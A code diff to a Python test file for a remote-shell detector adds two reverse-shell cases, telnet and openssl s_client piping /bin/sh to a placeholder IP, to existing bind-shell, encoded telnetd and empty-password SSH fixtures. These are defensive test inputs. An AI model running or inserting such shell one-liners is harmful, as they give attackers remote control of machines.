@@ -26,6 +26,9 @@ PERL = base64.b64encode(b"system('telnetd -l /bin/sh -p 7101')").decode()
     ("ncat --listen 7502 --sh-exec /bin/bash\n", "bind-shell"),
     ("dropbear -R -B -p 2201\n", "ssh-empty-password"),
     ("/usr/sbin/sshd -o PermitEmptyPasswords=yes\n", "ssh-empty-password"),
+    ("telnet 198.51.100.8 7600 | /bin/sh | telnet 198.51.100.8 7601\n", "reverse-shell"),
+    ("openssl s_client -quiet -connect 198.51.100.8:7602 | /bin/sh 2>&1 | openssl s_client -quiet -connect "
+     "198.51.100.8:7603\n", "reverse-shell"),
 ])
 def test_remote_shell_spellings(script, kind):
     assert kind in [h.kind for h in remote_shells(parse(script))]
